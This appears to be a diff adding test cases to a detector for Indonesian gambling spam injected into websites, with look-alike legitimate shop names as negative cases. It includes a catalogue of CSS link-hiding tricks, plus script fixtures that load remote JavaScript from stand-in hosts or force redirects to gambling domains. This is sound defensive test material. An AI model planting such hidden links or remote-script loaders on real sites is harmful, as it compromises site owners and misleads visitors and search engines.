@@ -114,3 +114,84 @@ h("canonical second domain", shop("Toko Kita 88", "", "<link rel=canonical href=
 h("bot diff stock", shop("Kicau", "<p>Murai gacor 3 ekor</p>"), shop("Kicau", "<p>Murai gacor 4 ekor, slot lomba hari ini, jackpot motor</p>"))
 h("bot title diff", shop("Futsal"), shop("Futsal - Slot online hari ini | Booking"))
 h("bot title diff pulsa", shop("Pulsa"), shop("Pulsa 88 - Deposit pulsa, bonus new member, link alternatif"))
+# A fifth round: titles, ways of hiding, names of shops.
+for t in [
+    "PADUKA88: Situs Resmi Slot & Togel",
+    "Login RTP SULTAN77",
+    "Slot Gacor 4D",
+    "Situs Judi Slot Online Terpercaya",
+    "ZEUS138 Gampang Menang",
+    "Demo Pragmatic Gratis",
+    "Agen Togel Terpercaya 2026",
+    "Bandar Slot Depo Pulsa",
+    "Raja Slot 5000",
+    "JUDI QQ",
+    "bocoran hk malam ini",
+    "Prediksi Sydney Jitu",
+    "Tabel Paito SDY",
+    "Slot Bet 100 Perak",
+    "HABANERO SLOT RESMI",
+    "IDNPLAY Poker Online",
+    "Sabung Ayam SV388",
+    "Slot Maxwin x5000",
+    "Link Slot 777 Terbaru",
+    "Macauslot188",
+]:
+    a("bt " + t, PLAIN, shop(title=t))
+for s in [
+    "position:absolute;top:-5000px",
+    "text-indent:-1000em",
+    "font-size:0.1px",
+    "opacity:0.001",
+    "width:1px;height:1px;overflow:hidden",
+    "visibility:hidden",
+    "display:none!important",
+    "clip-path:circle(0)",
+    "margin-left:-9999px",
+    "color:transparent",
+    "filter:opacity(0)",
+    "transform:scale(0)",
+    "position:fixed;bottom:-2000px",
+    "max-height:0;overflow:hidden",
+    "height:0px;overflow:hidden",
+    "line-height:0;font-size:0;color:transparent",
+    "position:absolute;right:-9999px",
+    "left:-9999rem;position:absolute",
+]:
+    a("hs " + s, shop(body=f"<div style='{s}'><a href='https://kab-x.go.id/wp/slot/'>slot gacor</a></div>"))
+a("css ext 2", shop(head="<style>.a1,.b1{height:0;overflow:hidden}</style>", body="<p class=b1>Daftar <a href=https://z.example>situs togel</a></p>"))
+a("aside", wp(foot="<aside style='display:none'><h3>Partner</h3><a href=https://a.example>Slot Gacor Hari Ini</a></aside>"))
+a("ul menu named", wp(foot="<ul id=menu-footer style='position:absolute;left:-9999px'><li><a href=https://a.example>Slot Gacor</a></li><li><a href=https://b.example>Situs Toto</a></li></ul>"))
+a("a title", wp(foot="<a href='https://x.example/' style='display:none' title='slot gacor'></a>"))
+a("js eval unescape", shop(body="<script>document.write(unescape('%3Cscript%20src%3D%22https%3A//slotgacor.example/j.js%22%3E%3C/script%3E'))</script>"))
+a("js create el", shop(body="<script>var s=document.createElement('script');s.src='https://slot88gacor.example/x.js';document.head.appendChild(s)</script>"))
+a("js top", shop(body="<script>if(window.innerWidth<800)top.location='https://togel4d.example'</script>"))
+a("js parent", shop(body='<script>window.parent.location.assign("https://bandar-togel.example/?x")</script>'))
+for n, t, b in [("Tukang Kunci", "Slot kunci, duplikat", "Slot online 24 jam"), ("Penjahit", "Slot jahit minggu ini penuh", "daftar antre slot")]:
+    h(n, wp(n, f"<p>{t}. {b}</p>"))
+for t in [
+    "Slot Kosong untuk Kelas Yoga",
+    "Reservasi Slot Online - Klinik Gigi",
+    "Voucher Data HK & Macau",
+    "Toto Furniture: Kursi & Meja",
+    "Poker Chips Cookies",
+    "Jackpot Bakery Bandung",
+    "Spin Bike Gym",
+    "Kicau Gacor Store",
+    "Casino Royale Barbershop",
+    "Bet Hanan Book Store",
+    "Domino Pizza Promo",
+    "Rolet Cat dan Kuas",
+    "Bandar Kopi Gayo",
+    "Agen Bola Lampu",
+    "Bandar Lampung Snack",
+    "Situs Purbakala Trowulan",
+    "Raja Toto Motor",
+    "Togel Village Homestay",
+]:
+    h(
+        "ht " + t,
+        wp(t, "<p>Selamat datang, pesan sekarang, bonus ongkir. Daftar member.</p>"),
+    )
+for t in ["Agen Bola Lampu LED", "Bandar Kopi Gayo Resmi", "Toto Furniture Resmi", "Jackpot Bakery Login Member", "Slot Kelas Yoga Hari Ini"]:
+    h("bt " + t, shop(title=t), shop(title=t + " | Promo"))
